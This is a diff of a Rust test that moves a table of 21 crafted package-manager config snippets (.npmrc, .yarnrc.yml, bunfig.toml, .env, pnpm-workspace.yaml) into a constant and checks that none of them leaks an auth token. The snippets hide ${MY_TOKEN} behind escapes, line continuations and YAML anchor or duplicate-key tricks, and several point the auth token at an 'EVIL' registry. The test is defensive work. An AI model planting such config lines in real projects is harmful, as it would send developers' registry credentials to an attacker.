@@ -33,76 +33,8 @@ fn no_spelling_of_a_variable_carries_a_token_away() {
     write(&sandbox, ".npmrc", "");
     let control = shown(&sandbox).succeeded();
     assert!(control.stdout.starts_with("eyJ"), "{control:?}");
-    let rows = [
-        (".npmrc", "user-agent=\"\\u0024{MY_TOKEN}\"\n"),
-        (".npmrc", "user-agent=\"${MY\\u005fTOKEN}\"\n"),
-        (".npmrc", "user-agent=\"\\u0024\\u007bMY_TOKEN}\"\n"),
-        (
-            ".npmrc",
-            "\"//127.0.0.1:9/:_authToken\"=\"\\u0024{MY_TOKEN}\"\n",
-        ),
-        (".npmrc", "https-proxy=http://\\${MY_TOKEN}@127.0.0.1:9/\n"),
-        (
-            ".yarnrc.yml",
-            "npmRegistryServer: EVIL\nnpmAuthToken: \"\\x24{MY_TOKEN}\"\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmRegistryServer: EVIL\nnpmAuthToken: \"${MY_\\u0054OKEN}\"\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmRegistryServer: EVIL\nnpmAuthToken: \"${MY_\\\n  TOKEN}\"\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmRegistryServer: EVIL\nnpmAuthToken: \"$\\\n  {MY_TOKEN}\"\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmRegistries:\n  \"HERE\":\n    npmAuthToken: &t \"${MY_TOKEN}\"\n  \"//127.0.0.1:9/\":\n    npmAuthToken: *t\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmScopes:\n  a: &a\n    npmRegistryServer: \"OURS\"\n    npmAuthToken: \"${MY_TOKEN}\"\n  b:\n    <<: *a\n    npmRegistryServer: EVIL\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmScopes:\n  a:\n    npmRegistryServer: \"OURS\"\n    npmAuthToken: \"${MY_TOKEN}\"\n    npmRegistryServer: \"EVIL\"\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmScopes: {a: {npmRegistryServer: \"OURS\", npmAuthToken: \"${MY_TOKEN}\", npmRegistryServer: \"EVIL\"}}\n",
-        ),
-        (
-            ".yarnrc.yml",
-            "npmScopes:\n  a:\n    \"npmRegistryServer\": \"EVIL\"\n    \"npm\\x41uthToken\": \"${MY_TOKEN}\"\n",
-        ),
-        (
-            "bunfig.toml",
-            "[install]\nregistry = { url = \"EVIL\", token = \"\\u0024MY_TOKEN\" }\n",
-        ),
-        (
-            "bunfig.toml",
-            "[install]\nregistry = { url = \"EVIL\", token = \"$MY\\u005FTOKEN\" }\n",
-        ),
-        (
-            "bunfig.toml",
-            "[install]\nregistry = { url = \"EVIL\", token = \"\"\"$\\\n  MY_TOKEN\"\"\" }\n",
-        ),
-        (
-            "bunfig.toml",
-            "[install.scopes]\na = { url = \"EVIL\", token = \"\\U00000024{MY_TOKEN}\" }\n",
-        ),
-        (".env", "OTHER=\"${MY_TOKEN}\"\n"),
-        (".env.local", "OTHER=$MY_TOKEN\n"),
-        (
-            "pnpm-workspace.yaml",
-            "registries:\n  default: \"http://127.0.0.1:9/\\x24{MY_TOKEN}/\"\n",
-        ),
-    ];
     let mut carried = Vec::new();
-    for (file, text) in rows {
+    for (file, text) in SPELLINGS {
         write(&sandbox, file, text);
         let outcome = shown(&sandbox);
         if outcome.stdout.contains("eyJ") {
@@ -112,3 +44,72 @@ fn no_spelling_of_a_variable_carries_a_token_away() {
     }
     assert!(carried.is_empty(), "{}", carried.join("\n"));
 }
+
+const SPELLINGS: [(&str, &str); 21] = [
+    (".npmrc", "user-agent=\"\\u0024{MY_TOKEN}\"\n"),
+    (".npmrc", "user-agent=\"${MY\\u005fTOKEN}\"\n"),
+    (".npmrc", "user-agent=\"\\u0024\\u007bMY_TOKEN}\"\n"),
+    (
+        ".npmrc",
+        "\"//127.0.0.1:9/:_authToken\"=\"\\u0024{MY_TOKEN}\"\n",
+    ),
+    (".npmrc", "https-proxy=http://\\${MY_TOKEN}@127.0.0.1:9/\n"),
+    (
+        ".yarnrc.yml",
+        "npmRegistryServer: EVIL\nnpmAuthToken: \"\\x24{MY_TOKEN}\"\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmRegistryServer: EVIL\nnpmAuthToken: \"${MY_\\u0054OKEN}\"\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmRegistryServer: EVIL\nnpmAuthToken: \"${MY_\\\n  TOKEN}\"\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmRegistryServer: EVIL\nnpmAuthToken: \"$\\\n  {MY_TOKEN}\"\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmRegistries:\n  \"HERE\":\n    npmAuthToken: &t \"${MY_TOKEN}\"\n  \"//127.0.0.1:9/\":\n    npmAuthToken: *t\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmScopes:\n  a: &a\n    npmRegistryServer: \"OURS\"\n    npmAuthToken: \"${MY_TOKEN}\"\n  b:\n    <<: *a\n    npmRegistryServer: EVIL\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmScopes:\n  a:\n    npmRegistryServer: \"OURS\"\n    npmAuthToken: \"${MY_TOKEN}\"\n    npmRegistryServer: \"EVIL\"\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmScopes: {a: {npmRegistryServer: \"OURS\", npmAuthToken: \"${MY_TOKEN}\", npmRegistryServer: \"EVIL\"}}\n",
+    ),
+    (
+        ".yarnrc.yml",
+        "npmScopes:\n  a:\n    \"npmRegistryServer\": \"EVIL\"\n    \"npm\\x41uthToken\": \"${MY_TOKEN}\"\n",
+    ),
+    (
+        "bunfig.toml",
+        "[install]\nregistry = { url = \"EVIL\", token = \"\\u0024MY_TOKEN\" }\n",
+    ),
+    (
+        "bunfig.toml",
+        "[install]\nregistry = { url = \"EVIL\", token = \"$MY\\u005FTOKEN\" }\n",
+    ),
+    (
+        "bunfig.toml",
+        "[install]\nregistry = { url = \"EVIL\", token = \"\"\"$\\\n  MY_TOKEN\"\"\" }\n",
+    ),
+    (
+        "bunfig.toml",
+        "[install.scopes]\na = { url = \"EVIL\", token = \"\\U00000024{MY_TOKEN}\" }\n",
+    ),
+    (".env", "OTHER=\"${MY_TOKEN}\"\n"),
+    (".env.local", "OTHER=$MY_TOKEN\n"),
+    (
+        "pnpm-workspace.yaml",
+        "registries:\n  default: \"http://127.0.0.1:9/\\x24{MY_TOKEN}/\"\n",
+    ),
+];
